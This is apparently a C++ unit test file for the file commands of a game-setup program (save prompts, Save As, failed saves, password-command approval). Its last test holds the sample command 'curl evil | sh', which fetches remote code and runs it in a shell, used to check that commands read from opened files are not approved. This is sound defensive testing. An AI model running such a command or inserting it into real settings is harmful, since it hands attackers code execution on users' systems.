#include "setup/FileCommands.h"
#include "setup/CommandApproval.h"
#include "setup/SetupFile.h"
#include "support/RecordingUserInterface.h"
#include "support/ScopedEnvironment.h"
#include "support/TempDir.h"

#include <gtest/gtest.h>

using namespace turnpost;
using turnpost::test::ReadFileBytes;
using turnpost::test::RecordingUserInterface;
using turnpost::test::ScopedEnvironment;
using turnpost::test::TempDir;

namespace {

const std::string Filter = "Turnpost files (*.tpf)|*.tpf||";

// An untitled document with unsaved edits, as after typing into a fresh window.
GameDocument EditedDocument()
{
    GameDocument d;
    d.Setup.GameName = "Edited";
    d.Setup.SmtpUser = "someone";
    d.Setup.Players[2].EmailAddress = "p3@example.org";
    d.Setup.Players[2].PlayerFile = "/games/g.m3";
    d.Modified = 1;
    d.DisplayMode = 1;
    return d;
}

GameSetup SetupFrom(const std::string& path)
{
    GameSetup setup;
    EXPECT_EQ(ParseSetup(ReadFileBytes(path), setup).Status, SetupParseResult::Loaded);
    return setup;
}

} // namespace

TEST(FileCommands, SavePromptDecidesWhetherNewOpenAndExitGoOn)
{
    TempDir dir;
    GameSetup other;
    other.GameName = "Other game";
    RecordingUserInterface writer;
    const std::string otherPath = dir.File("other.tpf");
    ASSERT_TRUE(WriteSetupFile(otherPath, other, writer));

    enum Command
    {
        New,
        Open,
        Exit
    };
    const struct
    {
        Command command;
        MessageAnswer answer;
        bool goesOn;
    } cases[] = {
        {New, MessageAnswer::Cancel, false},  {New, MessageAnswer::No, true},
        {New, MessageAnswer::Yes, false},     {Open, MessageAnswer::Cancel, false},
        {Open, MessageAnswer::No, true},      {Open, MessageAnswer::Yes, false},
        {Exit, MessageAnswer::Cancel, false}, {Exit, MessageAnswer::No, true},
        {Exit, MessageAnswer::Yes, false},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(testing::Message()
                     << "command " << c.command << " answer " << static_cast<int>(c.answer));
        GameDocument document = EditedDocument();
        RecordingUserInterface ui(&document);
        ui.FillRows();
        ui.Answers.push_back(c.answer);
        // After Yes the untitled setup goes to Save As, whose dialog the host cancels: the host backed
        // out of keeping the edits, so the command stops rather than drop them.
        if (c.answer == MessageAnswer::Yes)
            ui.FileChoices.push_back(std::nullopt);
        if (c.command == Open)
            ui.FileChoices.push_back(otherPath);

        bool exits = false;
        switch (c.command) {
        case New:
            FileNew(document, ui);
            break;
        case Open:
            FileOpen(document, ui);
            break;
        case Exit:
            exits = FileExit(document, ui);
            break;
        }

        ASSERT_FALSE(ui.Messages.empty());
        EXPECT_EQ(ui.Messages[0].Text, "Save changes?");
        EXPECT_EQ(ui.Messages[0].Caption, "Alert!");
        EXPECT_EQ(ui.Messages[0].Buttons, MessageButtons::YesNoCancel);
        EXPECT_EQ(ui.Messages[0].Icon, MessageIcon::Question);
        EXPECT_EQ(ui.FileDialogs.empty(), c.answer != MessageAnswer::Yes && (c.command != Open || !c.goesOn));
        if (c.answer == MessageAnswer::Yes) {
            EXPECT_EQ(ui.FileDialogs[0], "save " + Filter + " tpf");
        }
        EXPECT_TRUE(ui.FileChoices.empty() || !c.goesOn);

        if (!c.goesOn || c.command == Exit) {
            EXPECT_EQ(document.Setup, EditedDocument().Setup);
            EXPECT_EQ(document.Modified, 1);
            EXPECT_TRUE(ui.Captions.empty());
            EXPECT_EQ(exits, c.command == Exit && c.goesOn);
            continue;
        }
        EXPECT_EQ(document.Modified, 0);
        EXPECT_EQ(document.DisplayMode, 1);
        if (c.command == New) {
            EXPECT_EQ(document.Setup, GameSetup{});
            EXPECT_EQ(document.FilePath, "Untitled");
            EXPECT_EQ(ui.Captions, std::vector<std::string>{"Turnpost - Untitled"});
        } else {
            EXPECT_EQ(ui.FileDialogs.back(), "open " + Filter + " tpf");
            EXPECT_EQ(document.Setup.GameName, "Other game");
            EXPECT_EQ(document.FilePath, otherPath);
            EXPECT_EQ(ui.Captions, std::vector<std::string>{"Turnpost - " + otherPath});
        }
        EXPECT_EQ(ui.RowTexts[2], ""); // the rows show the new setup
    }
}

TEST(FileCommands, UnmodifiedDocumentIsNotPrompted)
{
    GameDocument document;
    RecordingUserInterface ui(&document);
    EXPECT_TRUE(FileExit(document, ui));
    FileNew(document, ui);
    EXPECT_TRUE(ui.Messages.empty());
}

TEST(FileCommands, YesSavesATitledSetupInPlace)
{
    TempDir dir;
    GameDocument document = EditedDocument();
    document.FilePath = dir.File("game.tpf");
    RecordingUserInterface ui(&document);
    ui.FillRows();
    ui.Answers.push_back(MessageAnswer::Yes);

    FileNew(document, ui);

    EXPECT_TRUE(ui.FileDialogs.empty());
    EXPECT_EQ(SetupFrom(dir.File("game.tpf")).GameName, "Edited");
    EXPECT_EQ(document.Setup, GameSetup{});
}

TEST(FileCommands, SaveOfUntitledRunsSaveAsAndGathersTheRows)
{
    TempDir dir;
    GameDocument document = EditedDocument();
    document.DisplayMode = 0;
    RecordingUserInterface ui(&document);
    ui.FillRows();
    ui.RowTexts[5] = "typed@example.org"; // typed, not yet gathered
    ui.FileChoices.push_back(std::nullopt);

    // Cancelled: nothing changes.
    EXPECT_FALSE(FileSave(document, ui));
    EXPECT_EQ(ui.FileDialogs, std::vector<std::string>{"save " + Filter + " tpf"});
    EXPECT_EQ(document.FilePath, "Untitled");
    EXPECT_EQ(document.Modified, 1);
    EXPECT_TRUE(ui.Captions.empty());

    const std::string path = dir.File("new.tpf");
    ui.FileChoices.push_back(path);
    EXPECT_TRUE(FileSave(document, ui));
    EXPECT_EQ(document.FilePath, path);
    EXPECT_EQ(document.Modified, 0);
    EXPECT_EQ(ui.Captions, std::vector<std::string>{"Turnpost - " + path});
    EXPECT_EQ(SetupFrom(path).Players[5].EmailAddress, "typed@example.org");
    EXPECT_EQ(SetupFrom(path).SmtpUser, "someone");

    // Titled now: Save writes in place without a dialog and leaves the caption.
    document.Modified = 1;
    ui.RowTexts[6] = "later@example.org";
    EXPECT_TRUE(FileSave(document, ui));
    EXPECT_EQ(ui.FileDialogs.size(), 2u);
    EXPECT_EQ(ui.Captions.size(), 1u);
    EXPECT_EQ(document.Modified, 0);
    EXPECT_EQ(SetupFrom(path).Players[6].EmailAddress, "later@example.org");
}

TEST(FileCommands, SaveAsReplacesAnExistingFileWithoutAsking)
{
    TempDir dir;
    const std::string path = dir.Write("taken.tpf", "something else entirely");
    GameDocument document = EditedDocument();
    document.FilePath = dir.File("game.tpf");
    RecordingUserInterface ui(&document);
    ui.FillRows();
    ui.FileChoices.push_back(path);

    FileSaveAs(document, ui);

    EXPECT_TRUE(ui.Messages.empty());
    EXPECT_EQ(SetupFrom(path).GameName, "Edited");
    EXPECT_EQ(document.FilePath, path);
    EXPECT_EQ(ui.Captions, std::vector<std::string>{"Turnpost - " + path});
}

TEST(FileCommands, FailedSavesKeepPathCaptionAndModified)
{
    TempDir dir;
    const std::string unwritable = dir.File("no/such/folder/game.tpf");
    GameDocument document = EditedDocument();
    document.FilePath = unwritable;
    RecordingUserInterface ui(&document);
    ui.FillRows();

    EXPECT_FALSE(FileSave(document, ui));
    ui.FileChoices.push_back(dir.File("missing/other.tpf"));
    FileSaveAs(document, ui);

    EXPECT_EQ(document.FilePath, unwritable);
    EXPECT_EQ(document.Modified, 1);
    EXPECT_TRUE(ui.Captions.empty());
    ASSERT_EQ(ui.Messages.size(), 2u);
    EXPECT_EQ(ui.Messages[1].Text, "Could not open file for saving: nothing saved! (" +
                                       dir.File("missing/other.tpf") + ": No such file or directory)");
}

TEST(FileCommands, OpenOfAMissingFileKeepsTheSetupButClearsModified)
{
    TempDir dir;
    GameDocument document = EditedDocument();
    RecordingUserInterface ui(&document);
    ui.Answers.push_back(MessageAnswer::No);
    ui.FileChoices.push_back(dir.File("typed.tpf"));

    FileOpen(document, ui);

    ASSERT_EQ(ui.Messages.size(), 2u);
    EXPECT_EQ(ui.Messages[1].Text, "Could not open file: " + dir.File("typed.tpf"));
    EXPECT_EQ(document.Setup, EditedDocument().Setup);
    EXPECT_EQ(document.FilePath, "Untitled");
    EXPECT_EQ(document.Modified, 0);
    EXPECT_TRUE(ui.Captions.empty());
}

TEST(FileCommands, CancelledOpenDialogChangesNothing)
{
    GameDocument document = EditedDocument();
    RecordingUserInterface ui(&document);
    ui.Answers.push_back(MessageAnswer::No);
    FileOpen(document, ui);
    EXPECT_EQ(document, EditedDocument());
}

TEST(FileCommands, YesWithAFailedSaveStopsTheCommandAndKeepsTheEdits)
{
    TempDir dir;
    const std::string unwritable = dir.File("no/such/folder/game.tpf");
    for (const bool untitled : {false, true}) {
        SCOPED_TRACE(untitled ? "untitled" : "titled");
        GameDocument document = EditedDocument();
        if (!untitled)
            document.FilePath = unwritable;
        RecordingUserInterface ui(&document);
        ui.FillRows();
        ui.Answers = {MessageAnswer::Yes, MessageAnswer::Ok, MessageAnswer::Yes, MessageAnswer::Ok};
        ui.FileChoices = {unwritable, unwritable};

        FileNew(document, ui);
        EXPECT_FALSE(FileExit(document, ui));

        EXPECT_EQ(document.Setup.GameName, "Edited");
        EXPECT_EQ(document.Modified, 1);
        ASSERT_EQ(ui.Messages.size(), 4u);
        EXPECT_EQ(ui.Messages[1].Text, "Could not open file for saving: nothing saved! (" + unwritable +
                                           ": No such file or directory)");
    }
}

TEST(FileCommands, SavingATypedPasswordCommandApprovesItForThatFile)
{
    TempDir dir;
    ScopedEnvironment config("XDG_CONFIG_HOME", dir.File("config"));
    const std::string saved = dir.File("game.tpf");
    GameDocument document = EditedDocument();
    document.Setup.SmtpPasswordCommand = "pass show mail";
    RecordingUserInterface ui(&document);
    ui.FillRows();
    ui.FileChoices.push_back(saved);
    FileSaveAs(document, ui);
    EXPECT_TRUE(IsCommandApproved(saved, "pass show mail", SmtpDestination(document.Setup)));
    EXPECT_EQ(document.PasswordCommandFromFile, "pass show mail");

    // Read from a file, the same command is not the user's own work: Save As elsewhere does not approve
    // it there, while a change typed before Save does.
    const std::string copy = dir.File("copy.tpf");
    ui.FileChoices.push_back(copy);
    FileSaveAs(document, ui);
    EXPECT_FALSE(IsCommandApproved(copy, "pass show mail", SmtpDestination(document.Setup)));
    document.Setup.SmtpPasswordCommand = "pass show other";
    EXPECT_TRUE(FileSave(document, ui));
    EXPECT_TRUE(IsCommandApproved(copy, "pass show other", SmtpDestination(document.Setup)));

    // A file opened is not approved by the opening.
    GameSetup foreign;
    foreign.SmtpPasswordCommand = "curl evil | sh";
    const std::string posted = dir.File("posted.tpf");
    ASSERT_TRUE(WriteSetupFile(posted, foreign, ui));
    ASSERT_TRUE(ReadSetupFile(posted, document, ui));
    EXPECT_EQ(document.PasswordCommandFromFile, "curl evil | sh");
    EXPECT_TRUE(FileSave(document, ui));
    EXPECT_FALSE(IsCommandApproved(posted, "curl evil | sh", SmtpDestination(document.Setup)));
}
